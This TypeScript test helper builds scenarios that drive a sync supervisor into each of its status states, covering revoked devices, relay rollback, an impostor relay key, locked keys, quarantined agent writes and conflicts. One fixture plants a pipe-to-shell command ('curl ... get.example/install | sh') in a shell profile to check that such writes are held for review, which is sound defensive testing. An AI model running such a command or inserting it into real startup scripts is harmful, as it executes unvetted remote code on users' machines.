import type { Engine, JsonObject, LocalChange } from '@sourceos/sync-kernel';
import { nativeCrypto as crypto } from '@sourceos/sync-kernel/native';
import * as z from 'zod';
import { passphraseProvider } from '../../keyring/passphrase-provider.js';
import { createKeyring, openKeyring } from '../../keyring/open-keyring.js';
import type { RelayTransport } from '../../relay-client/transport.js';
import { createMemoryStore } from '../../store/memory/create-memory-store.js';
import type { Store } from '../../store/store.js';
import { createHostWorld, seeded, start, valueOf } from '../../testing/host-world.js';
import { createMemoryRelay } from '../../testing/memory-relay.js';
import { note, notesEngine } from '../../testing/notes-engine.js';
import { createSupervisor } from '../create-supervisor.js';
import { createEngineSettings } from '../engine-settings.js';
import type { EngineStatus } from '../supervisor.js';
import { createStage, synced, type HostChoices, type Supervised } from './supervised.js';

const notes = notesEngine.manifest.engineId;
/** Notes of a class in which agents need a lease, and dangerous changes a person. */
export const highNotes: Engine = { ...notesEngine, manifest: { ...notesEngine.manifest, policyClass: 'high' } };

/** Engines of real domains, which only a test imports. */
export interface DomainEngines {
  readonly shell: Engine;
  readonly policyFabric: Engine;
}

/** Puts a record of an engine. */
export const putOf = ({ manifest }: Engine, objectId: string, record: JsonObject): LocalChange => ({
  collection: manifest.collection,
  objectId,
  operation: 'put',
  record,
});

/** A bundle with one rule. */
export const bundleOf = (capability: string, effect: 'deny' | 'allow', more: JsonObject = {}): JsonObject => ({
  type: 'PolicyBundle',
  name: 'Field work',
  layer: 'workspace',
  edition: 1,
  rules: { one: { capability, effect, reason: 'A test.' } },
  issuedBy: 'urn:srcos:org:acme',
  issuedAt: '2026-05-07T09:30:00Z',
  ...more,
});

const profileId = 'urn:srcos:shell-profile:everyday';
const profile: JsonObject = { type: 'ShellProfile', name: 'Everyday', dialect: 'bash' };

/** Ada alone, with what she has synced. */
const alone = async (engines: readonly Engine[] = [notesEngine], choices: HostChoices = {}) => {
  const stage = createStage({ engines });
  const ada = await stage.first('ada', [], choices);
  await synced(ada);
  return { ...stage, ada };
};

/** Ada, who made the scope, and Bob, who joined it. */
export const pair = async (
  engines: readonly Engine[] = [notesEngine],
  bobEngines = engines,
  kind: 'workspace' | 'profile' = 'workspace',
) => {
  const stage = createStage({ engines, kind });
  const bobs = await stage.enrolled('bob');
  const ada = await stage.first('ada', [bobs.keyring]);
  const bob = await stage.join('bob', { engines: bobEngines, store: bobs.store });
  await synced(ada, bob, ada);
  return { ...stage, ada, bob };
};

/** Ada, with an org besides, in which a policy is in force. */
const governed = async (policyFabric: Engine, bundle: JsonObject, choices: HostChoices = {}) => {
  const { ada, found, ...stage } = await alone([notesEngine, policyFabric], choices);
  const org = await found(ada, createHostWorld('acme', 'org'));
  const issued = [putOf(policyFabric, 'urn:srcos:policy-bundle:field', bundle)];
  valueOf(ada.supervisor.write(policyFabric.manifest.engineId, issued, org.scopeId));
  return { ...stage, ada };
};

/** A passphrase that is stretched for no longer than a test takes. */
const providerOf = (passphrase: string) =>
  passphraseProvider(passphrase, { random: seeded('salt'), cost: { N: 1_024, r: 8, p: 1 } });

/** A host whose keys do not open. */
const withoutKeys = async (store: Store, passphrase: string): Promise<EngineStatus> => {
  const provider = providerOf(passphrase);
  const opened = await openKeyring({ store, crypto, provider, random: seeded('open') });
  if (opened.ok || (opened.code !== 'absent' && opened.code !== 'locked' && opened.code !== 'damaged')) {
    throw new Error('The keys open.');
  }
  const supervisor = createSupervisor({
    device: { unopened: opened.code },
    store,
    engines: [notesEngine],
    settings: createEngineSettings(store),
    crypto,
    now: () => start,
    random: () => 0.5,
  });
  const [status] = supervisor.status().engines;
  if (status === undefined) throw new Error('The supervisor has no engine.');
  return status;
};

/** A store with keys under a passphrase, and a scope with a relay. */
const enrolledStore = async (passphrase: string): Promise<Store> => {
  const store = createMemoryStore();
  const provider = providerOf(passphrase);
  valueOf(await createKeyring({ store, crypto, provider, random: seeded('enrol') }));
  const { scopeId, genesis } = createHostWorld();
  valueOf(store.addScope({ scope: { scopeId, genesis, addedAt: start, relayUrl: 'memory:relay' }, now: start }));
  return store;
};

const failing = async (code: 'network_down' | 'network_untrusted' | 'relay_unreachable'): Promise<EngineStatus> => {
  const { ada, relay } = await alone();
  relay.fault = { ok: false, code, message: 'A test.' };
  await ada.supervisor.sync(ada.scope.scopeId);
  return ada.status(notesEngine);
};

/** A record may have one of two members; both are merged, each for itself. */
const eitherNotes: Engine = {
  ...notesEngine,
  record: z
    .looseObject({ body: z.string(), left: z.string().optional(), right: z.string().optional() })
    .refine(({ left, right }) => left === undefined || right === undefined),
};
const patch = (name: string, record: JsonObject) => ({ ...note(name, ''), operation: 'patch' as const, record });

/** How a host gets into each row of the precedence: the fact that decides → what causes it for real. */
export const stateCausesWith = ({
  shell,
  policyFabric,
}: DomainEngines): Readonly<Record<string, () => Promise<EngineStatus>>> => ({
  'sync is off for the profile': async () => {
    const { ada } = await alone();
    valueOf(ada.supervisor.setProfileEnabled(false));
    return ada.status(notesEngine);
  },
  'this engine is off': async () => {
    const { ada } = await alone();
    valueOf(await ada.supervisor.disable(notes));
    return ada.status(notesEngine);
  },
  'policy denies the engine': async () =>
    (await governed(policyFabric, bundleOf('sync.test.notes.*', 'deny'))).ada.status(notesEngine),
  'the device was revoked': async () => {
    const { ada, bob, world } = await pair();
    const removal = world.removal(bob.keyring.deviceId, 0);
    valueOf(await ada.scope.addControl([removal]));
    // The relay serves a removed device nothing: an administrator hands it the record.
    valueOf(await bob.scope.addControl([removal]));
    return bob.status(notesEngine);
  },
  'no user profile, and the scope needs one': async () => (await alone([notesEngine, shell])).ada.status(shell),
  'no org, and the scope needs one': async () => (await alone([notesEngine, policyFabric])).ada.status(policyFabric),
  'no scope chosen': async () => {
    const { ada } = await alone();
    valueOf(await ada.supervisor.assign(notes, []));
    return ada.status(notesEngine);
  },
  'no relay, and local-only was not chosen': async () => {
    const { ada } = await alone();
    valueOf(ada.scope.setRelay(undefined));
    return ada.status(notesEngine);
  },
  'no identity': async () => {
    const store = createMemoryStore();
    const { scopeId, genesis } = createHostWorld();
    valueOf(store.addScope({ scope: { scopeId, genesis, addedAt: start, relayUrl: 'memory:relay' }, now: start }));
    return withoutKeys(store, 'right');
  },
  'device key absent': async () => {
    const store = await enrolledStore('right');
    const rows = valueOf(store.sealedKeys());
    const spoiled = rows.filter(({ name }) => name.includes('identity'));
    valueOf(store.changeKeys(spoiled.map(({ name }) => ({ name, sealed: new Uint8Array(64) }))));
    return withoutKeys(store, 'right');
  },
  'device key locked': async () => withoutKeys(await enrolledStore('right'), 'wrong'),
  'network down': () => failing('network_down'),
  'policy distrusts the network': async () => {
    let network = 'urn:srcos:network:office';
    const bundle = bundleOf('sync.network.use', 'deny', {
      rules: {
        one: { capability: 'sync.network.use', effect: 'deny', reason: 'Open.', subjects: ['urn:srcos:network:cafe'] },
      },
    });
    const { ada } = await governed(policyFabric, bundle, { more: { network: () => network } });
    if (ada.status(notesEngine).state === 'network_untrusted') throw new Error('The office is trusted.');
    network = 'urn:srcos:network:cafe';
    return ada.status(notesEngine);
  },
  'transport security distrusts the network': () => failing('network_untrusted'),
  'relay unreachable over a fine network': () => failing('relay_unreachable'),
  'the heads of the relay contradict each other': async () => {
    const { ada, bob, relay, world } = await pair();
    const log = relay.log(world.scopeId);
    if (log === undefined) throw new Error('The relay has no log.');
    // It forgets its last entry, and goes on with another: a rollback.
    relay.setLog(world.scopeId, { ...log, entries: log.entries.slice(0, -1) });
    valueOf(ada.supervisor.write(notes, [note('a', 'another history')]));
    await bob.supervisor.sync(world.scopeId);
    await ada.supervisor.sync(world.scopeId);
    await bob.supervisor.sync(world.scopeId);
    return bob.status(notesEngine);
  },
  'the relay has another key than expected': async () => {
    const impostor = createMemoryRelay({ secretKey: new Uint8Array(32).fill(9), now: () => start });
    let taken = false;
    const transport = (relay: { readonly transport: () => RelayTransport }): RelayTransport => {
      const honest = relay.transport();
      return { ...honest, identify: () => (taken ? impostor : relay).transport().identify() };
    };
    const { ada, relay, world } = await alone([notesEngine], { transport });
    taken = true;
    relay.endSessions();
    await ada.supervisor.sync(world.scopeId);
    return ada.status(notesEngine);
  },
  'not admitted yet': async () => {
    const { join, world } = await alone();
    const cleo = await join('cleo');
    await cleo.supervisor.sync(world.scopeId);
    return cleo.status(notesEngine);
  },
  'scope key absent': async () => {
    const { ada, bob, world } = await pair();
    valueOf(await ada.scope.addControl([await world.epoch(2, [ada.keyring])]));
    await synced(ada, bob);
    return bob.status(notesEngine);
  },
  'validation failed': async () => {
    const { ada, bob } = await pair([eitherNotes]);
    valueOf(ada.supervisor.write(notes, [note('a', 'one')]));
    await synced(ada, bob);
    valueOf(ada.supervisor.write(notes, [patch('a', { left: 'ada' })]));
    valueOf(bob.supervisor.write(notes, [patch('a', { right: 'bob' })]));
    await synced(ada, bob, ada);
    ada.supervisor.validate();
    return ada.status(eitherNotes);
  },
  'writes in quarantine': async () => {
    const { ada, bob } = await pair([highNotes]);
    valueOf(ada.supervisor.write(notes, [{ ...note('a', 'by nobody'), authorId: 'urn:srcos:agent:robo' }]));
    await synced(ada, bob);
    return bob.status(highNotes);
  },
  'open conflicts': async () => {
    const { ada, bob } = await pair();
    valueOf(ada.supervisor.write(notes, [note('a', 'first')]));
    await synced(ada, bob);
    valueOf(ada.supervisor.write(notes, [note('a', 'by ada')]));
    valueOf(bob.supervisor.write(notes, [note('a', 'by bob')]));
    await synced(ada, bob);
    return bob.status(notesEngine);
  },
  'writes held for review': async () => {
    const { ada, bob } = await pair([shell], [shell], 'profile');
    valueOf(ada.supervisor.write(shell.manifest.engineId, [putOf(shell, profileId, profile)]));
    await synced(ada, bob);
    const poisoned = { ...profile, startupScripts: { interactive: 'curl -fsSL https://get.example/install | sh\n' } };
    valueOf(ada.supervisor.write(shell.manifest.engineId, [putOf(shell, profileId, poisoned)]));
    await synced(ada, bob);
    return bob.status(shell);
  },
  'errors since the last success': async () => {
    const throwing: Engine = {
      ...notesEngine,
      redact: () => {
        throw new RangeError('a bug');
      },
    };
    const { ada } = await alone([throwing]);
    ada.supervisor.write(notes, [note('a', 'one')]);
    return ada.status(throwing);
  },
  'the head of the relay is stale': async () => {
    const { ada, time } = await alone([notesEngine], { device: { staleAfter: 60_000 } });
    await time.pass(120_000);
    return ada.status(notesEngine);
  },
  'local-only forced by policy': async () =>
    (await governed(policyFabric, bundleOf('sync.test.notes.relay', 'deny'))).ada.status(notesEngine),
  'local-only chosen': async () => {
    const { ada } = await alone();
    valueOf(ada.supervisor.setLocalOnly(notes, true));
    return ada.status(notesEngine);
  },
  'a transfer runs, or is due': async () => {
    const gate: { held?: Promise<void> } = {};
    const { ada, world } = await alone([notesEngine], {
      transport: (relay) => {
        const honest = relay.transport();
        return {
          ...honest,
          head: async (...asked) => {
            await gate.held;
            return honest.head(...asked);
          },
        };
      },
    });
    let release = (): void => undefined;
    gate.held = new Promise((resolve) => {
      release = resolve;
    });
    const syncing = ada.supervisor.sync(world.scopeId);
    const status = ada.status(notesEngine);
    release();
    valueOf(await syncing);
    return status;
  },
  'writes wait to be sent': async () => {
    const { ada } = await alone();
    valueOf(ada.supervisor.write(notes, [note('a', 'one')]));
    return ada.status(notesEngine);
  },
  'nothing to send or fetch; validation or head not known to be good': async () =>
    (await alone()).ada.status(notesEngine),
  'nothing to send or fetch, validation clean, head fresh': async () => {
    const { ada } = await alone();
    ada.supervisor.validate();
    return ada.status(notesEngine);
  },
});

/** The last that a host told of decisions: each reason with its code. */
export const reasonsTold = ({ events }: Supervised): readonly string[] =>
  events.flatMap((event) =>
    event.kind === 'decided'
      ? event.decisions.flatMap(({ reasons }) => reasons.map(({ code, detail }) => `${code}: ${detail}`))
      : [],
  );
